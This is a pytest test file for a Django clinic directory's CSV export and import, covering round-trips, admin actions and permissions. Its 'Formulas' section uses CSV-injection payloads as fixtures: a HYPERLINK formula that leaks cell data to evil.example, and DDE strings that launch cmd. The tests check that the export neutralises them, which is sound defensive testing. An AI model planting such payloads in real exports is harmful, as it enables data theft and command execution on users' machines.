"""CSV export (issue 5): the import format, and import(export(x)) == x."""

import csv
import io
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from clinics.importing import export_clinics, header, import_clinics
from clinics.models import Clinic, Location
from tests.builders import (
    ClinicFactory,
    LocationFactory,
    OfferingFactory,
    PayerAcceptanceFactory,
    condition,
    language,
    payer,
    payment_option,
    route,
)

pytestmark = pytest.mark.django_db

SAMPLE = Path(__file__).resolve().parents[1] / "docs" / "sample-import.csv"


def listings_snapshot():
    """Everything the import format carries, without database ids, slugs or status."""
    snapshot = []
    for clinic in Clinic.objects.order_by("name"):
        locations = []
        for location in clinic.locations.order_by("address_line1"):
            locations.append(
                (
                    location.name,
                    location.address_line1,
                    location.address_line2,
                    location.city,
                    location.state,
                    location.postal_code,
                    location.country,
                    location.latitude,
                    location.longitude,
                    location.coordinates_source,
                    location.phone,
                    sorted(
                        (o.route.slug, o.price_min_usd, o.price_max_usd)
                        for o in location.offerings.all()
                    ),
                    sorted(a.payer.slug for a in location.payer_acceptances.all()),
                    sorted(c.slug for c in location.conditions.all()),
                    sorted(p.slug for p in location.payment_options.all()),
                    sorted(lang.code for lang in location.languages.all()),
                )
            )
        snapshot.append(
            (
                clinic.name,
                clinic.email,
                clinic.website,
                clinic.booking_url,
                clinic.npi,
                clinic.offers_kap or clinic.offers_integration,
                clinic.offers_telehealth,
                clinic.accepting_new_patients,
                locations,
            )
        )
    return snapshot


def export_text(queryset=None):
    out = io.StringIO()
    export_clinics(out, queryset)
    return out.getvalue()


def make_listings():
    """Two clinics entered by hand in the admin (no import refs), one with two locations."""
    harbor = ClinicFactory(
        name="Harbor Ketamine",
        slug="harbor-ketamine",
        email="hello@harbor.example",
        website="https://harbor.example",
        booking_url="https://harbor.example/book",
        npi="1234567893",
        offers_integration=True,
        offers_telehealth=True,
        accepting_new_patients=False,
    )
    downtown = LocationFactory(
        clinic=harbor, name="Downtown", address_line2="Suite 2", phone="+1 503-555-0101"
    )
    OfferingFactory(location=downtown, route=route("iv"), price_min_usd=450, price_max_usd=650)
    OfferingFactory(
        location=downtown, route=route("esketamine"), price_min_usd=0, price_max_usd=900
    )
    OfferingFactory(location=downtown, route=route("im"), price_min_usd=None, price_max_usd=None)
    PayerAcceptanceFactory(location=downtown)
    PayerAcceptanceFactory(location=downtown, payer=payer("cigna"))
    downtown.conditions.set([condition("ptsd"), condition("anxiety")])
    downtown.payment_options.set([payment_option("self-pay"), payment_option("superbill")])
    downtown.languages.set([language("en"), language("es")])
    eastside = LocationFactory(
        clinic=harbor,
        address_line1="2200 Sample Blvd",
        postal_code="97232",
        latitude=None,
        longitude=None,
    )
    OfferingFactory(location=eastside, route=route("iv"), price_min_usd=500, price_max_usd=500)
    eastside.languages.set([language("en")])
    prairie = ClinicFactory(name='Prairie Wellness, "Austin"', slug="prairie")
    austin = LocationFactory(
        clinic=prairie,
        address_line1="7 Example Rd",
        city="Austin",
        state="TX",
        postal_code="78701-1234",
        latitude=30.27,
        longitude=-97.742,
    )
    OfferingFactory(location=austin, route=route("lozenge"), price_min_usd=150, price_max_usd=250)
    austin.languages.set([language("en")])
    return harbor, prairie


def test_export_writes_the_import_format():
    harbor, _ = make_listings()

    rows = list(csv.DictReader(io.StringIO(export_text())))

    assert list(rows[0]) == header()
    first = rows[0]
    assert first["clinic_id"] == "harbor-ketamine"
    assert first["location_id"] == f"loc-{harbor.locations.order_by('pk').first().pk}"
    assert first["routes"] == "iv;im;esketamine"
    assert (first["price_iv"], first["price_im"], first["price_esketamine"]) == (
        "450-650",
        "",
        "0-900",
    )
    assert first["psychotherapy"] == "yes"
    assert (first["telehealth"], first["accepting"]) == ("yes", "no")
    assert first["conditions"] == "anxiety;ptsd"
    assert first["insurance"] == "aetna;cigna"
    assert first["languages"] == "en;es"
    # ZIP-geocoded coordinates are left blank, so a re-import geocodes them the same way.
    second = rows[1]
    assert Location.objects.get(address_line1="2200 Sample Blvd").coordinates_source == "zip"
    assert (second["latitude"], second["longitude"]) == ("", "")
    assert rows[2]["clinic_name"] == 'Prairie Wellness, "Austin"'


def test_round_trip_into_an_empty_database_gives_the_same_listings():
    make_listings()
    before = listings_snapshot()
    exported = export_text()

    Clinic.objects.all().delete()
    report = import_clinics(exported.encode(), source_name="export")

    assert report.ok, report.lines()
    assert listings_snapshot() == before
    # Exporting again gives the very same file: ids are now the import refs.
    assert export_text() == exported


def test_round_trip_of_the_sample_file():
    import_clinics(SAMPLE, source_name="sample")
    before = listings_snapshot()
    exported = export_text()

    Clinic.objects.all().delete()
    import_clinics(exported.encode(), source_name="sample")

    assert listings_snapshot() == before
    assert export_text() == exported


def test_reimporting_an_export_into_the_same_database_changes_nothing():
    import_clinics(SAMPLE, source_name="sample")

    report = import_clinics(export_text().encode(), source_name="sample")

    assert (report.clinics.unchanged, report.locations.unchanged) == (2, 3)


def test_clinics_sharing_an_import_ref_get_distinct_ids():
    ClinicFactory(slug="a", import_source="one", import_ref="c-1")
    ClinicFactory(slug="b", import_source="two", import_ref="c-1")
    for clinic in Clinic.objects.all():
        LocationFactory(clinic=clinic)

    rows = list(csv.DictReader(io.StringIO(export_text())))

    assert [r["clinic_id"] for r in rows] == ["c-1", "b"]


def test_export_command_to_a_file_and_to_stdout(tmp_path):
    make_listings()
    path = tmp_path / "out.csv"

    call_command("export_clinics", str(path), stderr=io.StringIO())
    out = io.StringIO()
    call_command("export_clinics", "-", stdout=out)

    assert path.read_text() == out.getvalue() == export_text()
    assert len(out.getvalue().splitlines()) == 4


# Admin ---------------------------------------------------------------------------------------


def test_admin_exports_the_selected_clinics(admin_client):
    harbor, prairie = make_listings()

    response = admin_client.post(
        reverse("admin:clinics_clinic_changelist"),
        {"action": "export_as_csv", "_selected_action": [prairie.pk]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["clinic_id"] for r in rows] == ["prairie"]


@pytest.mark.parametrize("name", ["import", "duplicates", "merge"])
def test_staff_without_moderation_rights_cannot_reach_the_bulk_tools(
    client, django_user_model, name
):
    staff = django_user_model.objects.create(username="staff", is_staff=True)
    client.force_login(staff)

    response = client.get(reverse(f"admin:clinics_clinic_{name}"))

    assert response.status_code == 403


def test_moderators_see_the_bulk_tools_on_the_changelist(admin_client):
    response = admin_client.get(reverse("admin:clinics_clinic_changelist"))

    assert reverse("admin:clinics_clinic_import") in response.content.decode()
    assert reverse("admin:clinics_clinic_duplicates") in response.content.decode()
    actions = dict(response.context["action_form"].fields["action"].choices)
    assert "export_as_csv" in actions and "merge_two_selected" in actions


# Formulas (issue 12.8) --------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def make_hostile_listing():
    """A published clinic whose free text a spreadsheet would run as formulas."""
    clinic = ClinicFactory(
        name=HYPERLINK, slug="hostile", email="-2+3@example.org", website="https://ok.example"
    )
    location = LocationFactory(
        clinic=clinic,
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        address_line1="+cmd|' /C calc'!A0",
        address_line2="'=already quoted",
        city="-2+3",
        phone="+1 503-555-0101",
        latitude=45.52,
        longitude=-122.68,
    )
    OfferingFactory(location=location, route=route("iv"), price_min_usd=400, price_max_usd=400)
    location.languages.set([language("en")])
    return clinic


def test_export_neutralises_formulas_in_free_text_but_not_numbers():
    make_hostile_listing()

    row = next(csv.DictReader(io.StringIO(export_text())))

    assert row["clinic_name"] == "'" + HYPERLINK
    assert row["email"] == "'-2+3@example.org"
    assert row["location_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["address_line1"] == "'+cmd|' /C calc'!A0"
    # An apostrophe of the data itself gets one more, so the import gives it back.
    assert row["address_line2"] == "''=already quoted"
    assert row["city"] == "'-2+3"
    # Numbers and phone numbers are not free text: they stay as they are, + and - included.
    assert row["longitude"] == "-122.68"
    assert row["phone"] == "+1 503-555-0101"
    assert row["price_iv"] == "400"


def test_neutralised_export_imports_back_unchanged():
    make_hostile_listing()
    before = listings_snapshot()
    exported = export_text()

    Clinic.objects.all().delete()
    report = import_clinics(exported.encode(), source_name="export")

    assert report.ok, report.lines()
    assert listings_snapshot() == before
    assert Clinic.objects.get().name == HYPERLINK
    assert export_text() == exported


def test_download_and_admin_export_neutralise_formulas(client, admin_client, settings, tmp_path):
    settings.DOWNLOADS_DIR = tmp_path
    clinic = make_hostile_listing()

    download = b"".join(client.get("/downloads/csv").streaming_content).decode()
    admin = admin_client.post(
        reverse("admin:clinics_clinic_changelist"),
        {"action": "export_as_csv", "_selected_action": [clinic.pk]},
    )

    for text in (download, admin.content.decode()):
        row = next(csv.DictReader(io.StringIO(text)))
        assert row["clinic_name"] == "'" + HYPERLINK
        assert row["address_line1"] == "'+cmd|' /C calc'!A0"


def test_export_command_neutralises_formulas():
    make_hostile_listing()
    out = io.StringIO()

    call_command("export_clinics", "-", stdout=out)

    assert next(csv.DictReader(io.StringIO(out.getvalue())))["clinic_name"] == "'" + HYPERLINK


def test_problem_file_neutralises_refused_cells_and_imports_back(tmp_path):
    rows = [
        "clinic_id,clinic_name,location_id,address_line1,city,state,postal_code,routes,phone",
        f'c1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",l1,1 Main St,Portland,=1+2,97205,iv,'
        "=cmd|' /C calc'!A0",
    ]
    source = tmp_path / "in.csv"
    source.write_text("\n".join(rows))
    report = import_clinics(source, source_name="partner", skip_invalid=True)
    path = tmp_path / "problems.csv"
    with pytest.raises(CommandError):
        call_command(
            "import_clinics",
            str(source),
            "--source",
            "partner",
            "--skip-invalid",
            "--report",
            str(path),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )

    problem = next(csv.DictReader(io.StringIO(path.read_text())))
    assert problem["clinic_name"] == "'" + HYPERLINK
    assert problem["state"] == "'=1+2"
    assert problem["phone"] == "'=cmd|' /C calc'!A0"
    again = import_clinics(path.read_bytes(), source_name="partner", skip_invalid=True)
    assert [str(e) for e in again.errors] == [str(e) for e in report.errors]
